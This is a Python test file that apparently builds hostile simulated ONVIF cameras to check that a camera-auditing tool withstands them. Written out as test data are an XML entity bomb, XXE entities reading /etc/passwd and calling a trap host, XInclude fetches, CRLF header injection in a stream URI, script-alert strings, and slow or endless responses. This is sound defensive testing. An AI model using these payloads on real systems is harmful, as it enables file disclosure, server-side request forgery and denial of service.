"""Cameras whose ONVIF service is hostile; their stream is healthy where it can be found."""

import asyncio
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime

from tests.hostile.case import CANARY_PASSWORD, CANARY_USER, Case, Device, outcomes
from tests.hostile.cases_rtsp import shown
from tests.hostile.trap import Trap
from tests.probes.camera.onvif_device import (
    Answer,
    Asked,
    OnvifPeer,
    capabilities_answer,
    device_answer,
    fault,
    http,
    profile,
    profiles_answer,
    services_answer,
    soap,
    time_answer,
    uri_answer,
)

FOUND = ("pass", "warn")
BAD = "unknown:malformed:commune"
CALLS = (
    "GetSystemDateAndTime", "GetServices", "GetCapabilities", "GetDeviceInformation", "GetProfiles",
    "GetStreamUri", "GetSnapshotUri",
)  # fmt: skip
SECRET = f"{CANARY_USER}:{CANARY_PASSWORD}"


@dataclass(slots=True)
class RawPeer(OnvifPeer):
    """A device that writes a head, then the same piece for ever."""

    head: bytes = b""
    piece: bytes = b""
    pause: float = 0.0
    pieces: int = 1_000_000_000
    tasks: list[object] = field(default_factory=list)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await reader.read(9_999)
            writer.write(self.head)
            for _ in range(self.pieces):
                writer.write(self.piece)
                await writer.drain()
                await asyncio.sleep(self.pause)
        except ConnectionError:
            pass
        finally:
            writer.close()


def device(
    name: str, make: Callable[[Trap], dict[str, Answer]], *allowed: str, asks: str = "digest"
) -> Case:
    """Return a camera whose answers to some calls are hostile."""

    def serve(trap: Trap) -> Device:
        peer = OnvifPeer(says=make(trap), asks=asks, password=CANARY_PASSWORD)
        return Device(rtsp=shown(), onvif=peer, path="")

    return Case(name=f"onvif-{name}", serve=serve, allowed=outcomes("CAM-01", *(allowed or FOUND)))


def empty_battery(_: Trap) -> dict[str, Answer]:
    """A clock that began anew in 2001: what it says is wrong, and was seen."""
    return {"GetSystemDateAndTime": http(time_answer(datetime(2001, 1, 1, 0, 3, 7, tzinfo=UTC)))}


def every(name: str, answer: Callable[[Trap], Answer], *allowed: str) -> Case:
    """Return a camera that answers every call alike."""
    return device(name, lambda trap: dict.fromkeys(CALLS, answer(trap)), *allowed, asks="")


def raw(name: str, *allowed: str, looks: int = 1, **how: object) -> Case:
    """Return a camera whose service is no HTTP server of ours."""

    def serve(trap: Trap) -> Device:
        return Device(rtsp=shown(), onvif=RawPeer(**how), path="")  # type: ignore[arg-type]

    return Case(
        name=f"onvif-{name}", serve=serve, allowed=outcomes("CAM-01", *allowed), looks=looks
    )


def xml(inner: str, prolog: str = "") -> bytes:
    """Return an envelope with something before it."""
    return http(soap(inner).replace("?>", f"?>{prolog}", 1))


def entity_bomb(_: Trap) -> Answer:
    """Ten to the ninth letters, should anybody expand them."""
    rows = "".join(
        f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    return xml("&i;", f'<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">{rows}]>')


def outside(trap: Trap) -> Answer:
    """Entities of a file and of the trap."""
    told = f'<!DOCTYPE s SYSTEM "http://{trap.pair}/s.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
    return xml("&f;&x;", f'{told}<!ENTITY x SYSTEM "http://{trap.pair}/x">]>')


def imported(trap: Trap) -> Answer:
    """A schema to fetch, and another document to include."""
    inner = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{trap.pair}/x"/>'
        f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="urn:x http://{trap.pair}/x.xsd"/>'
    )
    return http(soap(inner))


def elsewhere(trap: Trap) -> dict[str, Answer]:
    """Every address that the device names is the trap's."""
    where = f"http://{CANARY_USER}@{trap.pair}/onvif/media"
    return {
        "GetServices": http(services_answer(where)),
        "GetCapabilities": http(capabilities_answer(where)),
        "GetStreamUri": http(uri_answer("GetStreamUri", f"rtsp://{trap.pair}/kenh1")),
        "GetSnapshotUri": http(uri_answer("GetSnapshotUri", f"http://{trap.pair}/a.jpg")),
    }


def uris(name: str, uri: str, *allowed: str) -> Case:
    """Return a camera that names a strange address for its stream."""

    def make(trap: Trap) -> dict[str, Answer]:
        told = uri.format(trap=trap.pair, secret=SECRET)
        return {"GetStreamUri": http(uri_answer("GetStreamUri", told))}

    return device(f"stream-{name}", make, *allowed)


def challenged(trap: Trap) -> Answer:
    """A challenge in the name of the trap, its domain and its realm."""

    def answer(_: Asked) -> bytes:
        ask = (
            f'WWW-Authenticate: Digest realm="{trap.pair}", domain="http://{trap.pair}/", nonce="1"'
        )
        return http("x", 401, ask, f"Location: http://{trap.pair}/")

    return answer


def echoes(_: Trap) -> dict[str, Answer]:
    """What it was told comes back in every field."""
    return {
        "GetDeviceInformation": http(device_answer(f"{SECRET} <![CDATA[<script>alert(1)</script>]]>")),
        "GetProfiles": http(profiles_answer(profile(CANARY_PASSWORD, SECRET))),
        "GetStreamUri": http(uri_answer("GetStreamUri", f"rtsp://{SECRET.replace(' ', '%20').replace('#', '%23')}@10.0.0.1/kenh1")),
    }  # fmt: skip


MTOM = (
    b'HTTP/1.1 200 OK\r\nContent-Type: multipart/related; boundary=x; type="application/xop+xml"\r\n'
    b"Connection: close\r\n\r\n--x\r\nContent-Type: application/xop+xml\r\n\r\n<a/>\r\n"
)
SMALL = soap("<a/>" * 200_000).encode()
OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\n"
ANY = (
    BAD, "unknown:incomplete:commune", "unknown:unreadable:commune", "unknown:unreachable:commune",
    "unknown:timeout:commune", "unknown:not_configured:commune",
)  # fmt: skip

CASES = (
    device("every-address-is-the-trap", elsewhere, *FOUND, "unknown:not_configured:commune"),
    every("entity-bomb", entity_bomb, *ANY),
    every("entities-from-outside", outside, *ANY),
    every("includes-from-the-trap", imported, *ANY),
    every("redirects-to-the-trap", lambda trap: http("", 307, f"Location: http://{trap.pair}/"), *ANY),
    every("a-challenge-of-the-trap", challenged, "unknown:refused:commune", *ANY),
    every("deeply-nested", lambda _: http(soap("<a>" * 100_000 + "</a>" * 100_000)), *ANY),
    every("utf-16", lambda _: http(soap("<a/>").replace("UTF-8", "UTF-16").encode("utf-16")), *ANY),
    every("another-content-type", lambda _: http("<html><script>alert(1)</script></html>").replace(b"application/soap+xml", b"image/png"), *ANY),
    every("a-fault-that-echoes", lambda _: http(fault("NotAuthorized", SECRET), 400), "unknown:refused:commune", *ANY),
    every("an-empty-answer", lambda _: http(""), *ANY),
    every("another-calls-answer", lambda _: http(device_answer()), *ANY),
    device("echoes-what-it-was-told", echoes, *FOUND, BAD),
    device("a-thousand-profiles", lambda _: {"GetProfiles": http(profiles_answer(*(profile(f"p{n}", "V0") for n in range(1_000))))}, *FOUND, *ANY),
    device("numbers-that-are-none", lambda _: {"GetProfiles": http(profiles_answer(profile("m", "V")).replace("1920", "9" * 400))}, *FOUND, *ANY),
    device("a-clock-of-the-year-9999", lambda _: {"GetSystemDateAndTime": http(soap("<tds:GetSystemDateAndTimeResponse><tds:SystemDateAndTime><tt:DateTimeType>NTP</tt:DateTimeType><tt:DaylightSavings>false</tt:DaylightSavings><tt:UTCDateTime><tt:Time><tt:Hour>99</tt:Hour><tt:Minute>-1</tt:Minute><tt:Second>61</tt:Second></tt:Time><tt:Date><tt:Year>999999999</tt:Year><tt:Month>13</tt:Month><tt:Day>0</tt:Day></tt:Date></tt:UTCDateTime></tds:SystemDateAndTime></tds:GetSystemDateAndTimeResponse>"))}, *FOUND, *ANY),
    replace(device("a-clock-of-2001", empty_battery), allowed=outcomes("CAM-05", "fail"), may_fail=frozenset({"CAM-05"})),
    uris("of-the-trap", "rtsp://{trap}/kenh1"),
    uris("is-a-file", "file:///etc/passwd", *FOUND, *ANY),
    uris("is-nothing", "", *ANY),
    uris("with-line-breaks", "rtsp://{trap}/kenh1&#13;&#10;Authorization: x", *FOUND, *ANY),
    raw("silent", "unknown:unconfirmed:auditor", *ANY, looks=2, head=b"", piece=b"", pause=1.0),
    raw("a-byte-each-half-second", "unknown:unconfirmed:auditor", *ANY, looks=2, head=OK + b"\r\n", piece=b" ", pause=0.5),
    raw("hundred-megabytes-of-small-elements", *ANY, head=OK + b"Content-Length: 100000000\r\n\r\n", piece=SMALL),
    raw("headers-without-end", *ANY, head=OK, piece=b"X-More: aaaaaaaa\r\n" * 99),
    raw("multipart-without-end", *ANY, head=MTOM, piece=b"--x\r\n\r\n" + b"a" * 9_999),
    raw("gzip-that-nobody-asked-for", *ANY, head=OK + b"Content-Encoding: gzip\r\n\r\n", piece=b"\x1f\x8b\x08" + b"\0" * 999, pieces=9),
)  # fmt: skip
